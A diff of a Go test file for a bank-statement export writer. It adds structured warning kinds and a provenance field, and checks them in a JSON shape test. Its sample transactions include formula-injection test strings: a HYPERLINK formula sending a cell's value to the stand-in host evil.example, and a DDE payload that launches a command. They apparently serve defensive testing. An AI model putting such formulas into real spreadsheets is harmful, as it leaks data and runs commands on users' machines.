@@ -55,7 +55,8 @@ func sample() *extract.Result {
 			{Date: day("2024-01-03"), Description: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, AmountOut: dec("50.5"), Balance: *dec("3822.79")},
 			{Date: day("2024-01-03"), Description: "-cmd|' /C calc'!A0", AmountOut: dec("4000"), Balance: *dec("-177.21")},
 			{Date: day("2024-01-05"), Description: "+SUM(1,2)", AmountIn: dec("10.00"), Balance: *dec("-167.21"),
-				Warnings: []string{"balance computed from the opening balance"}},
+				Warnings:   []extract.Warning{{Kind: extract.WarnBalanceComputed, Message: "balance computed from the opening balance"}},
+				Provenance: extract.Provenance{BalanceComputed: true}},
 			{Date: day("2024-01-08"), Description: "@SUM(A1:A2)", AmountOut: dec("0.01"), Balance: *dec("-167.22")},
 			{Date: day("2024-01-09"), Description: "\tTAB LEADING", AmountOut: dec("1.10"), Balance: *dec("-168.32")},
 			{Date: day("2024-01-10"), Description: "\rCR LEADING", AmountOut: dec("2.20"), Balance: *dec("-170.52")},
@@ -195,8 +196,9 @@ func TestJSONGolden(t *testing.T) {
 func TestJSONShape(t *testing.T) {
 	body := write(t, JSON, sample())
 
-	// Field order of a transaction is the spec's.
-	order := regexp.MustCompile(`^\{"date":.*,"type":.*,"description":.*,"amountIn":.*,"amountOut":.*,"balance":"[^"]*"(,"warnings":\[.*\])?\}$`)
+	// Field order of a transaction is the spec's; Passbook's additions
+	// follow.
+	order := regexp.MustCompile(`^\{"date":.*,"type":.*,"description":.*,"amountIn":.*,"amountOut":.*,"balance":"[^"]*"(,"warnings":\[.*\],"warning_details":\[.*\])?(,"provenance":\{.*\})?\}$`)
 	var raw struct {
 		Transactions []json.RawMessage `json:"transactions"`
 	}
@@ -239,6 +241,14 @@ func TestJSONShape(t *testing.T) {
 		}
 		if _, ok := tx["warnings"]; ok != tt.hasWarnings {
 			t.Errorf("transaction %d has warnings: %v, want %v", tt.i, ok, tt.hasWarnings)
+		}
+		// Each warning's kind beside its message, and the row's
+		// provenance, as fields: a program never reads the messages.
+		details, _ := tx["warning_details"].([]any)
+		prov, _ := tx["provenance"].(map[string]any)
+		if tt.hasWarnings && (len(details) != 1 || details[0].(map[string]any)["kind"] != "balance_computed" || prov["balance_computed"] != true) ||
+			!tt.hasWarnings && (details != nil || prov != nil) {
+			t.Errorf("transaction %d: warning_details %v, provenance %v", tt.i, details, prov)
 		}
 		for _, k := range []string{"amountIn", "amountOut"} {
 			if _, ok := tx[k]; !ok {
